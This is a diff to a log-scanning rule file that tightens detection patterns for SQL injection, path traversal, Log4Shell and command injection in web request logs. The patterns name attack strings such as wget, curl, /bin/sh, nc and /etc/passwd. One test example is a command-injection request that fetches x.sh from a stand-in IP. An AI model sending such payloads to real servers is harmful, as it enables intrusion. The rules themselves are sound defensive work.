@@ -17,7 +17,7 @@ rule "http-server-error" {
   severity  = "low",
   meta      = { remediation = "Look into the application's log at that time." },
   prefilter = any { 'HTTP/1.0" 5', 'HTTP/1.1" 5', 'HTTP/2.0" 5', 'HTTP/3.0" 5', 'HTTP/2" 5' },
-  confirm   = { regex [["(?:[A-Z]{3,7}) [^"\n]{1,1000} HTTP/[123](?:\.\d)?" (5\d\d) ]] },
+  confirm   = { regex [["(?:[A-Z]{3,7}) [^"\n]{1,1000} HTTP/(?:1\.[01]|2(?:\.0)?|3\.0)" (5\d\d) ]] },
   examples  = {
     match = { line("/cart", 502), '"POST /pay HTTP/2.0" 503 12' },
     miss  = { line("/cart", 200), line("/cart", 404), 'HTTP/1.1" 5 bytes' },
@@ -30,9 +30,8 @@ rule "web-sql-injection" {
   severity  = "medium",
   meta      = { reference = "https://owasp.org/www-community/attacks/SQL_Injection",
                 remediation = "Check that the query is parameterised; look at what the answer held." },
-  prefilter = any { lit("union", "nocase"), lit("select", "nocase"), lit("sleep(", "nocase"), lit("or%20",
-    "nocase"),
-    lit("or+", "nocase"), lit("'", "nocase"), "%27", lit("information_schema", "nocase"), lit("waitfor", "nocase") },
+  prefilter = any { lit("union", "nocase"), "'", "%27", lit("information_schema.", "nocase"),
+    lit("sleep", "nocase"), lit("benchmark", "nocase"), lit("waitfor", "nocase") },
   confirm   = {
     regex(request([[(?i:union(?:\s|%20|\+|/\*.{0,9}?\*/){1,4}(?:all(?:\s|%20|\+){1,4})?select\b|]] ..
       [[(?:'|%27)(?:\s|%20|\+){0,4}(?:or|and)(?:\s|%20|\+){1,4}(?:'|%27)?\d{1,4}(?:'|%27)?(?:=|%3d)|]] ..
@@ -51,7 +50,9 @@ rule "web-path-traversal" {
   severity  = "medium",
   meta      = { reference = "https://owasp.org/www-community/attacks/Path_Traversal",
                 remediation = "Check that the answer was an error; normalise paths before they are opened." },
-  prefilter = any { "../", "..%2f", "..%2F", "%2e%2e", "%2E%2E", "..%5c", "..%5C", "..\\" },
+  prefilter = any { "../", "..\\", lit("..%2f", "nocase"), lit("..%5c", "nocase"), lit("..%252f", "nocase"),
+    lit("%2e%2e", "nocase"), lit("%252e%252e", "nocase"), lit("/etc/passwd", "nocase"),
+    lit("/windows/win.ini", "nocase") },
   confirm   = {
     regex(request([[(?i:(?:(?:\.\.|%2e%2e|%252e%252e)(?:/|\\|%2f|%5c|%252f)){2,}|]] ..
       [[/etc/passwd\b|/windows/win\.ini\b)]])),
@@ -69,7 +70,7 @@ rule "web-log4shell" {
   severity  = "high",
   meta      = { reference = "https://logging.apache.org/security.html",
                 remediation = "Update Log4j to 2.17.1 or later; look for connections to the named host." },
-  prefilter = any { "${", lit("$%7b", "nocase"), lit("%24%7b", "nocase") },
+  prefilter = any { "${", lit("$%7b", "nocase"), "%24{", lit("%24%7b", "nocase") },
   confirm   = {
     regex([[(?i:(?:\$|%24)(?:\{|%7b)(?:jndi|\$\{(?:lower|upper|env|sys|date|]] ..
       [[::-)[^}\n]{0,40}\}[^:\n]{0,80}?)(?::|%3a)(?:\$\{[^}\n]{0,40}\}|ldaps?|rmi|dns|iiop|corba|]] ..
@@ -108,12 +109,13 @@ rule "web-command-injection" {
   severity  = "medium",
   meta      = { reference = "https://owasp.org/www-community/attacks/Command_Injection",
                 remediation = "Check what the handler does with the parameter; never hand it to a shell." },
-  prefilter = any { lit("wget", "nocase"), lit("curl", "nocase"), lit("/bin/", "nocase"), lit("cmd.exe",
-    "nocase"),
-    lit("%2fbin%2f", "nocase"), lit("chmod", "nocase"), lit("powershell", "nocase"), lit("whoami", "nocase") },
+  prefilter = any { lit("wget", "nocase"), lit("curl", "nocase"), lit("/bin/", "nocase"), lit("%2fbin%2f", "nocase"),
+    lit("cmd.exe", "nocase"), lit("chmod", "nocase"), lit("powershell", "nocase"), lit("whoami", "nocase"),
+    lit("uname", "nocase") },
   confirm   = {
-    regex(request([[(?i:(?:;|%3b|\||%7c|`|%60|\$\(|%24%28|%0a)(?:\s|%20|\+){0,4}(?:(?:/|%2f)bin(?:/|%2f))?]] ..
-      [[(?:wget|curl|bash|sh|nc|chmod|whoami|id|uname|powershell|cmd\.exe)(?:\s|%20|\+|;|%3b|\||$))]])),
+    regex(request([[(?i:(?:;|%3b|\||%7c|`|%60|\$\(|%24%28|%0a)(?:\s|%20|\+){0,4}]] ..
+      [[(?:wget|curl|chmod|whoami|uname|powershell|cmd\.exe|(?:/bin/|%2fbin%2f)(?:ba|da|)sh|/bin/(?:nc|cat|id))]] ..
+      [[(?:\s|%20|\+|;|%3b|\||$))]])),
   },
   examples  = {
     match = { line "/cgi-bin/ping?host=1;wget%20http://198.51.100.7/x.sh", line "/t?q=%7Cwhoami%20" },
